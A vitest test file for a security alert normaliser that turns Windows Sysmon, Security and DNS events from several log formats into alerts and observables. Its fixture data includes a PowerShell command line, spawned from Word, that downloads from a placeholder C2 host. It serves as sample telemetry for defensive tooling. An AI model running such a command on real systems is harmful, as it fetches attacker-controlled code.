import { describe, expect, it } from 'vitest';
import { normaliseWebhook } from '../normalise.ts';
import { fingerprintsOf, normaliseOne, observableTexts, receivedAt } from '../normalise-one.fixture.ts';

const data = {
  RuleName: 'technique_id=T1059.001,technique_name=PowerShell',
  UtcTime: '2025-06-02 10:00:00.123',
  Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  User: 'CORP\\Ann',
  CommandLine: 'powershell -c iwr http://c2.example/a',
  Hashes: `SHA1=${'A'.repeat(40)},MD5=${'B'.repeat(32)},IMPHASH=${'C'.repeat(32)}`,
  ParentImage: 'C:\\Program Files\\WINWORD.EXE',
};
const sysmon = {
  TimeGenerated: '2025-06-02T10:00:03Z',
  Provider: 'Microsoft-Windows-Sysmon',
  Channel: 'Microsoft-Windows-Sysmon/Operational',
  Computer: 'WS-12',
  EventID: 1,
  EventData: JSON.stringify(data),
};

const connection = {
  TimeGenerated: '2025-06-02T10:00:01.21Z',
  Computer: 'WS-12',
  EventSourceName: 'Microsoft-Windows-Security-Auditing',
  Channel: 'Security',
  EventID: 5156,
  Activity: '5156 - The Windows Filtering Platform has allowed a connection.',
  EventData: `<EventData xmlns="http://schemas.microsoft.com/win/2004/08/events/event">\r
  <Data Name="Application">\\device\\harddiskvolume2\\tools\\a&amp;b&#x2e;exe</Data>\r
  <Data Name="SourceAddress">0.0.0.0</Data>\r
  <Data Name="DestAddress">198.51.100.7</Data>\r
</EventData>`,
};

describe('windows-event', () => {
  it('a Sysmon event of Sentinel (JSON inside of text) has its kind, program and own time', () => {
    const alert = normaliseOne('windows-event', sysmon);
    expect(alert).toMatchObject({
      title: 'Sysmon 1: Process creation (powershell.exe)',
      severity: 'low',
      ruleId: 'sysmon-1',
      techniques: ['T1059.001'],
      occurredAt: '2025-06-02T10:00:00.123Z',
    });
    expect(observableTexts(alert)).toEqual([
      'host ws-12',
      'user ann',
      'process powershell.exe',
      'parent process winword.exe',
      `sha1 ${'a'.repeat(40)}`,
      `md5 ${'b'.repeat(32)}`,
      'url http://c2.example/a',
      'domain c2.example',
    ]);
  });

  it('a Security event of Sentinel (XML inside of text) is told in the words of its activity', () => {
    const alert = normaliseOne('windows-event', connection);
    expect(alert).toMatchObject({
      title: 'Security 5156: The Windows Filtering Platform has allowed a connection (a&b.exe)',
      severity: 'informational',
      occurredAt: '2025-06-02T10:00:01.210Z',
    });
    expect(observableTexts(alert)).toEqual(['host ws-12', 'process a&b.exe', 'destination ip 198.51.100.7']);
  });

  it('evtx_dump, winlogbeat and NXLog tell the same event', () => {
    const expected = fingerprintsOf('windows-event', sysmon);
    const evtxDump = {
      Event: {
        System: {
          Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } },
          EventID: 1,
          Channel: 'Microsoft-Windows-Sysmon/Operational',
          Computer: 'WS-12',
          TimeCreated: { '#attributes': { SystemTime: '2025-06-02T10:00:00.500Z' } },
        },
        EventData: data,
      },
    };
    const winlogbeat = {
      '@timestamp': '2025-06-02T10:00:00.500Z',
      winlog: {
        event_id: '1',
        channel: 'Microsoft-Windows-Sysmon/Operational',
        computer_name: 'WS-12',
        event_data: data,
      },
    };
    const nxlog = { EventID: 1, Hostname: 'WS-12', SourceName: 'Microsoft-Windows-Sysmon', ...data };
    for (const event of [evtxDump, winlogbeat, nxlog]) expect(fingerprintsOf('windows-event', event)).toEqual(expected);
  });

  it('accounts of the system and of machines are nobody', () => {
    const people = ['NT AUTHORITY\\SYSTEM', 'NT AUTHORITY\\LOCAL SERVICE', 'CORP\\WS-12$', '-', 'DWM-1'];
    for (const User of people) {
      const alert = normaliseOne('windows-event', { ...sysmon, EventData: JSON.stringify({ ...data, User }) });
      expect(alert.observables.filter(({ type }) => type === 'user')).toEqual([]);
    }
  });

  it('the answers of a DNS query are observables', () => {
    const EventData = JSON.stringify({ QueryName: 'c2.example', QueryResults: '2001:DB8::1;::ffff:198.51.100.7;' });
    expect(observableTexts(normaliseOne('windows-event', { ...sysmon, EventID: 22, EventData }))).toEqual([
      'host ws-12',
      'query domain c2.example',
      'resolved ip 2001:db8::1',
      'resolved ip 198.51.100.7',
    ]);
  });

  it('what the program acted on tells two events apart, the time does not', () => {
    const other = JSON.stringify({ ...data, CommandLine: 'powershell -c other' });
    const later = JSON.stringify({ ...data, UtcTime: '2025-06-02 11:00:00.000' });
    const [fingerprint] = fingerprintsOf('windows-event', sysmon);
    expect(fingerprintsOf('windows-event', { ...sysmon, EventData: later })).toEqual([fingerprint]);
    expect(fingerprintsOf('windows-event', { ...sysmon, EventData: other })).not.toEqual([fingerprint]);
  });

  it('a document without an event id is refused with the fields that were missed', () => {
    const result = normaliseWebhook('windows-event', { Computer: 'WS-12', EventID: 'many' }, { receivedAt });
    expect(result).toEqual({ ok: false, refusal: expect.stringContaining('EventID') });
  });
});
